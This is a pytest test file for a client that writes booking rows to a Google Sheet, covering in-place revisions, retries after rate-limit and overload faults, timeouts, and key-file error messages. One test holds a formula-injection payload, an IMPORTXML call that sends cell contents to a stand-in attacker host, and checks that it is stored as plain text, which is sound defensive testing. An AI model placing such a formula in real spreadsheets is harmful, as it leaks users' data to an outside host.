"""Rows at Google: once each, whatever the server does in between."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from bookings_made import made
from gspread.exceptions import APIError

from actors.effects.target import Misconfigured
from actors.settings import SheetsSettings
from actors.spreadsheet.google import GoogleSheet, SheetLate, credentials_of
from actors.spreadsheet.rows import HEADER
from supervision.error_classification import error_classifier
from supervision.tiers.failures import Cause

if TYPE_CHECKING:
    from pathlib import Path

    from sheets_server import SheetsServer

WAIT_S = 10.0


@pytest.fixture
def sheet(settings_of_google: SheetsSettings) -> GoogleSheet:
    """The client."""
    return GoogleSheet(settings_of_google)


def test_given_an_empty_spreadsheet_when_rows_are_put_then_there_is_a_sheet_with_them(
    sheet: GoogleSheet, google: SheetsServer
) -> None:
    """With a header, and its own columns hidden."""
    written = sheet.put([made(1), made(2)], WAIT_S)

    rows = google.rows()
    assert written == 2
    assert rows[0] == list(HEADER)
    assert [row[0] for row in rows[1:]] == ["chat-1/i-1", "chat-1/i-2"]
    assert google.hidden() == [0, 1]


def test_given_a_row_when_a_later_revision_comes_then_it_is_changed_in_place(
    sheet: GoogleSheet, google: SheetsServer
) -> None:
    """And an earlier one changes nothing; a deleted booking keeps its row."""
    sheet.put([made(1), made(2)], WAIT_S)

    sheet.put([made(1, 3, gross="7.50"), made(1, 2)], WAIT_S)
    sheet.put([made(1, 2), made(2, 2, is_deleted=True)], WAIT_S)

    rows = google.rows()
    assert [row[:3] for row in rows[1:]] == [["chat-1/i-1", 3, "booked"], ["chat-1/i-2", 2, "deleted"]]
    assert rows[1][HEADER.index("gross")] == 7.5


@pytest.mark.parametrize("request_in_turn", [0, 1])
@pytest.mark.parametrize(
    ("fault", "cause"), [("429", Cause.RATE_LIMIT), ("503", Cause.OVERLOADED), ("lost", Cause.OVERLOADED)]
)
def test_given_a_refusal_when_repeated_then_there_is_one_row(
    sheet: GoogleSheet, google: SheetsServer, fault: str, cause: Cause, request_in_turn: int
) -> None:
    """The look or the write is refused, done or not; and the refusal is understood."""
    sheet.put([made(1)], WAIT_S)
    google.order(fault, 1, after=request_in_turn)

    with pytest.raises(APIError) as raised:
        sheet.put([made(2)], WAIT_S)
    rows_then = len(google.rows())
    written = sheet.put([made(2)], WAIT_S)

    was_done = fault == "lost" and request_in_turn == 1
    assert error_classifier.classify(raised.value).cause is cause
    assert (rows_then, written) == ((3, 0) if was_done else (2, 1))
    assert [row[0] for row in google.rows()[1:]] == ["chat-1/i-1", "chat-1/i-2"]


@pytest.mark.parametrize("fault", ["drip", "garbage"])
def test_given_an_answer_that_is_none_when_asked_then_it_fails_in_time(
    sheet: GoogleSheet, google: SheetsServer, fault: str
) -> None:
    """However slowly it drips; and goes on when the server is well again."""
    sheet.put([made(1)], WAIT_S)
    google.order(fault, 1)

    with pytest.raises((SheetLate, ValueError)):
        sheet.put([made(2)], 1.0)

    google.order("pass", 0)
    assert sheet.put([made(2)], WAIT_S) == 1


def test_given_a_formula_in_a_document_when_written_then_it_is_sent_as_text(
    sheet: GoogleSheet, google: SheetsServer
) -> None:
    """RAW computes nothing; the server refuses anything else."""
    booking = made(1)
    formula = '=IMPORTXML("http://evil.example/?"&A1, "//a")'
    evil = booking.invoice.with_value("seller.name", formula, None)

    sheet.put([made(2), type(booking)(**{**_fields(booking), "invoice": evil})], WAIT_S)

    assert google.rows()[2][HEADER.index("seller_name")] == formula


def test_given_credentials_that_are_none_when_read_then_it_says_so_without_their_content(tmp_path: Path) -> None:
    """A key file is a secret."""
    broken = tmp_path / "key.json"
    broken.write_text('{"private_key": "hunter2"}')

    with pytest.raises(Misconfigured) as raised:
        credentials_of(str(broken))
    with pytest.raises(Misconfigured):
        credentials_of(str(tmp_path / "missing.json"))

    assert "hunter2" not in str(raised.value)


def _fields(booking: object) -> dict[str, object]:
    return {name: getattr(booking, name) for name in booking.__struct_fields__}  # type: ignore[attr-defined]
